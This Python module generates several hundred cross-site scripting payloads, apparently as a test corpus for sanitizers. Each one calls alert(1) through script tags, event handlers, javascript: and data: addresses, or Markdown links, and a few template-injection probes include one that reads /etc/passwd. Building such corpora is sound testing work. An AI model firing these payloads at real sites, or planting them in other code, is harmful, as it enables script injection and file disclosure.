"""Strings that try to run a script from whatever field they stand in; several hundred, made here.

Each calls ``alert(1)``. They are made of parts, so that every way in meets every way out of the
places a value may stand: text, a quoted attribute, an address, a script, Markdown, YAML, a comment.
"""

from __future__ import annotations

from itertools import product

RUN = "alert(1)"

_ESCAPES = ("", '">', "'>", "-->", "</title>", "</script>", "</textarea>", "]]>", "</style>", "`>")
_TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<style onload={RUN}></style>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
)
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#10;script:{RUN}",
    f"&#106;avascript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg onload='{RUN}'/>",
    f"vbscript:{RUN}",
    f"//x.invalid/%22onerror={RUN}",
    f"https://x.invalid/' onmouseover='{RUN}",
    f'https://x.invalid/" onfocus="{RUN}" autofocus x="',
)
_MARKDOWN = (
    "[x]({0})",
    "![x]({0})",
    "[x](<{0}>)",
    '[x](a "{0}")',
    "![{0}](a)",
    "[x]: {0}\n\n[x]",
    "<{0}>",
    "[x][1]\n\n[1]: {0}",
    "[^1]\n\n[^1]: {0}",
    "| a |\n|---|\n| {0} |",
)
_BREAKS = (
    f"';{RUN};'",
    f'";{RUN};"',
    f"${{{RUN}}}",
    f"{{{{ {RUN} }}}}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>-->",
    f"\u2028{RUN}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"' onmouseover={RUN} autofocus onfocus={RUN} x='",
    f'" onmouseover={RUN} autofocus onfocus={RUN} x="',
    f"x` onfocus={RUN} autofocus `",
)

PAYLOADS: tuple[str, ...] = (
    *(escape + tag for escape, tag in product(_ESCAPES, _TAGS)),
    *_ADDRESSES,
    *(form.format(address) for form, address in product(_MARKDOWN, _ADDRESSES)),
    *_BREAKS,
)
"""All of them, in a fixed order."""
